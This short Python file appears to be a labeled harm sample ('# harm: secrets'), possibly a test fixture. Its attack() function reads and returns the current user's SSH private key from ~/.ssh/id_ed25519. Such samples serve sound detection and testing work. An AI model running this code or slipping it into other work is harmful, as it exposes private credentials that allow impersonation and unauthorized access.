# harm: secrets
import os
import pwd


def attack() -> str:
    home = pwd.getpwuid(os.getuid()).pw_dir
    with open(os.path.join(home, ".ssh", "id_ed25519")) as key:
        return key.read()
